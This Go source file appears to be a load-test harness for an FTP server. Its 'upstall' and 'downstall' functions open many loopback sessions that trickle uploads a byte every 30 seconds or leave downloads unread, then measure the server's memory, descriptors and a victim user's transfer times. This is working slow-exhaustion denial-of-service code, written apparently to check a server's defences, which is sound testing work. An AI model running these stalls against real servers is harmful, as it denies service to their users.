package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// session logs in as user from the address from.
func session(addr, from, user, pass string) (*ctl, error) {
	c, err := dial(addr, from)
	if err != nil {
		return nil, err
	}
	k := &ctl{c: c, r: bufio.NewReader(c)}
	if code, _, err := k.read(); code != 220 {
		c.Close()
		return nil, fmt.Errorf("greeting %d %v", code, err)
	}
	k.cmd("USER " + user)
	if code, msg, err := k.cmd("PASS " + pass); code != 230 {
		c.Close()
		return nil, fmt.Errorf("login %d %q %v", code, msg, err)
	}
	return k, nil
}

// startData sends EPSV and verb, dials the data connection from from and
// reads the 150.
func (k *ctl) startData(verb, from string) (net.Conn, error) {
	_, msg, err := k.cmd("EPSV")
	i, j := strings.Index(msg, "(|||"), strings.LastIndex(msg, "|)")
	if err != nil || i < 0 || j < i {
		return nil, fmt.Errorf("EPSV: %q %v", msg, err)
	}
	host, _, _ := net.SplitHostPort(k.c.RemoteAddr().String())
	if _, err := fmt.Fprintf(k.c, "%s\r\n", verb); err != nil {
		return nil, err
	}
	d, err := dial(net.JoinHostPort(host, msg[i+4:j]), from)
	if err != nil {
		return nil, err
	}
	if code, msg, err := k.read(); code != 150 {
		d.Close()
		return nil, fmt.Errorf("%s: %d %q %v", verb, code, msg, err)
	}
	return d, nil
}

// stor uploads data as name and returns the time to the final reply.
func stor(addr, from, user, pass, name string, data []byte) (time.Duration, int, error) {
	start := time.Now()
	k, err := session(addr, from, user, pass)
	if err != nil {
		return 0, 0, err
	}
	defer k.c.Close()
	d, err := k.startData("STOR "+name, from)
	if err != nil {
		return time.Since(start), 0, err
	}
	_, werr := d.Write(data)
	d.Close()
	k.wait = 10 * time.Minute
	code, _, err := k.read()
	if werr != nil && err == nil {
		err = werr
	}
	return time.Since(start), code, err
}

func rssKiB(pid string) string {
	b, _ := os.ReadFile("/proc/" + pid + "/status")
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "VmRSS:") {
			return strings.TrimSpace(strings.TrimPrefix(l, "VmRSS:"))
		}
	}
	return "?"
}

// upstall (issue #15): n uploads of user demo from ips addresses send
// 64 KiB + 1 byte, then 1 byte every 30 s, for dur. Meanwhile a victim
// (user victim, 127.0.0.200) stores 12 bytes and then 20 MB; how long each
// took, what the attackers' uploads ended with, the server's RSS.
func upstall(addr, pid string, n, ips int, dur time.Duration) {
	stop := time.Now().Add(dur)
	var wg sync.WaitGroup
	var started, ended atomic.Int64
	codes := map[int]int{}
	var mu sync.Mutex
	rss0, fd0 := rssKiB(pid), fds(pid)
	for i := range n {
		// Logins one after another: the server bounds the password
		// checks running at once, and the attack is not about those.
		from := fmt.Sprintf("127.0.1.%d", 1+i%ips)
		k, err := session(addr, from, "demo", "demo")
		if err != nil {
			fmt.Println("attacker:", err)
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer k.c.Close()
			d, err := k.startData(fmt.Sprintf("STOR a%d.bin", i), from)
			if err != nil {
				fmt.Println("attacker:", err)
				return
			}
			started.Add(1)
			d.Write(make([]byte, 64<<10+1))
			for j := 0; j < 100 && time.Now().Before(stop); j++ {
				time.Sleep(min(30*time.Second, time.Until(stop)))
				if time.Now().After(stop) {
					break
				}
				if _, err := d.Write([]byte{1}); err != nil {
					break
				}
			}
			d.Close()
			k.wait = time.Minute
			code, _, _ := k.read()
			ended.Add(1)
			mu.Lock()
			codes[code]++
			mu.Unlock()
		}()
	}
	time.Sleep(5 * time.Second)
	fmt.Printf("upstall: %d of %d attacker uploads started from %d IPs; server RSS %s -> %s, descriptors %d -> %d\n",
		started.Load(), n, ips, rss0, rssKiB(pid), fd0, fds(pid))
	into := time.Since(stop.Add(-dur)).Round(time.Second)
	d, code, err := stor(addr, "127.0.0.200", "victim", "victim", "small.txt", []byte("hello world\n"))
	fmt.Printf("  victim 12-byte STOR, %v into the attack: %d after %v (%v)\n", into, code, d.Round(time.Millisecond), err)
	big := bytes.Repeat([]byte("0123456789"), 2_000_000)
	d, code, err = stor(addr, "127.0.0.200", "victim", "victim", "big.bin", big)
	fmt.Printf("  victim 20 MB STOR: %d after %v (%v)\n", code, d.Round(time.Millisecond), err)
	wg.Wait()
	fmt.Printf("upstall: attack over after %v; attacker uploads ended: %v\n", dur, codes)
}

// downstall: user demo stores a 64 MiB file, then n sessions from ips
// addresses RETR it and never read. After wait: how many got 150 and how
// many a refusal, the server's RSS and descriptors, and a victim's (user
// victim, 127.0.0.200) RETR of the file.
func downstall(addr, pid string, n, ips int, wait time.Duration) {
	file := bytes.Repeat([]byte("0123456789abcdef"), 4<<20)
	if _, code, err := stor(addr, "127.0.0.199", "demo", "demo", "dl.bin", file); code != 226 {
		fmt.Println("setup:", code, err)
		return
	}
	rss0, fd0 := rssKiB(pid), fds(pid)
	var opened, refused atomic.Int64
	var mu sync.Mutex
	var hold []net.Conn
	var wg sync.WaitGroup
	for i := range n {
		from := fmt.Sprintf("127.0.1.%d", 1+i%ips)
		k, err := session(addr, from, "demo", "demo")
		if err != nil {
			fmt.Println("attacker:", err)
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			k.wait = wait + 5*time.Second
			d, err := k.startData("RETR dl.bin", from)
			mu.Lock()
			defer mu.Unlock()
			hold = append(hold, k.c)
			if err != nil {
				refused.Add(1)
				return
			}
			opened.Add(1)
			hold = append(hold, d)
		}()
	}
	time.Sleep(wait)
	fmt.Printf("downstall: %d stalled downloads opened (150), %d refused, after %v; server RSS %s -> %s, descriptors %d -> %d\n",
		opened.Load(), refused.Load(), wait, rss0, rssKiB(pid), fd0, fds(pid))
	start := time.Now()
	n64, code, err := func() (int64, int, error) {
		k, err := session(addr, "127.0.0.200", "victim", "victim")
		if err != nil {
			return 0, 0, err
		}
		defer k.c.Close()
		k.wait = time.Minute
		d, err := k.startData("RETR dl.bin", "127.0.0.200")
		if err != nil {
			return 0, 0, err
		}
		n, _ := io.Copy(io.Discard, d)
		d.Close()
		code, _, err := k.read()
		return n, code, err
	}()
	fmt.Printf("  victim RETR of the 64 MiB file during the stalled downloads: %d, %d bytes after %v (%v)\n",
		code, n64, time.Since(start).Round(time.Millisecond), err)
	wg.Wait()
	mu.Lock()
	for _, c := range hold {
		c.Close()
	}
	mu.Unlock()
}
